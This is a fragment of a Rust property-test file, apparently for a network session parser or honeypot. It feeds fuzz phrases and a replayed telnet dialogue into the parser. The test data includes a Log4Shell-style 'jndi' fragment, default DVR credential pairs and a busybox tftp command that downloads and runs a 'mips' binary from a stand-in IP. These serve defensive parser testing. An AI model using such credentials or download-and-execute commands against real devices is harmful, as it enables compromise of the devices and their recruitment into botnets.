    assert_eq!(hints(&play(&[(C, &hello[..hello.len() - 3])]).events), ["Cloud cloud.example"]);
}

const PHRASES: &[&[u8]] = &[
    b"login: ",
    b"Password: ",
    b"root\r\n",
    b"\xff\xfd\x01\xff\xfa",
    b"SSH-2.0-x\r\n\0\0\0\x0c\x0a\x15",
    b"GET /?user=a&pwd=b HTTP/1.1\r\nAuthorization: Basic YTpi\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nff\r\n",
    b"POST /login HTTP/1.1\r\nContent-Length: 18446744073709551615\r\n\r\n",
    b"RTSP/1.0 200 OK\r\n\r\n$\0",
    b"\x10\xff\x01\x00\x04MQTT\x05\xc2\0\0",
    b"220 ftp\r\n230 ok\r\n",
    b"\0\x20\x12\x34\x01\0\0\x01\0\0\0\0\0\0\xc0\x0c",
    b"\x16\x03\x01\xff\xff\x01\0",
    b"\x7fELF\x01\x01",
    b"/bin/busybox ABC; ${jndi:",
];

fn utterance() -> impl Strategy<Value = (bool, Vec<u8>)> {
    let bytes = prop_oneof![
        proptest::collection::vec(any::<u8>(), 0..80),
        "[ -~\r\n]{0,80}".prop_map(String::into_bytes),
        proptest::sample::select(PHRASES).prop_map(<[u8]>::to_vec),
    ];
    (any::<bool>(), bytes)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_soup_panics(said in proptest::collection::vec((utterance(), any::<u16>(), 0_u32..40), 1..24), udp: bool) {
        let protocol = if udp { Protocol::UDP } else { Protocol::TCP };
        let flow = flow(protocol);
        let mut session = Session::new(protocol);
        let mut count = 0_usize;
        let mut next = [0_u32; 2];
        for ((outward, bytes), jitter, cut) in &said {
            let place = &mut next[usize::from(*outward)];
            let seq = if jitter % 5 == 0 { place.wrapping_add(u32::from(*jitter % 64)).wrapping_sub(32) } else { *place };
            let length = bytes.len() as u32 + if jitter % 7 == 0 { *cut } else { 0 };
            *place = seq.wrapping_add(length);
            session.segment(&flow, Segment { outward: *outward, seq, payload: bytes, length }, &mut |_| count += 1);
        }
        session.close(&flow, &mut |_| count += 1);
        prop_assert!(session.is_finished());
        prop_assert!(count < 4000);
    }

    #[test]
    fn orders_of_magnitude_of_splits_agree(size in 1_usize..40) {
        let dialogue: &[Said<'_>] = &[
            (S, b"\xff\xfd\x01\xff\xfa\x18\x01\xff\xf0Welcome to DVR\r\ndvr login: "),
            (C, b"\xff\xfb\x18admin\r\n"),
            (S, b"Password: "),
            (C, b"7ujMko0admin\r\n"),
            (S, b"\r\nLogin incorrect\r\ndvr login: "),
            (C, b"root\r\n"),
            (S, b"Password: "),
            (C, b"jvbzd\r\n"),
            (S, b"\r\n\x1b[1m~ # \x1b[0m"),
            (C, b"cd /tmp; /bin/busybox tftp -g -r mips 198.51.100.9; chmod 777 mips; ./mips\r\n"),
        ];
        let split: Vec<Said<'_>> = dialogue.iter().flat_map(|(outward, bytes)| bytes.chunks(size).map(|chunk| (*outward, chunk))).collect();
        prop_assert_eq!(story(&play(&split).events), story(&play(dialogue).events));
    }
}
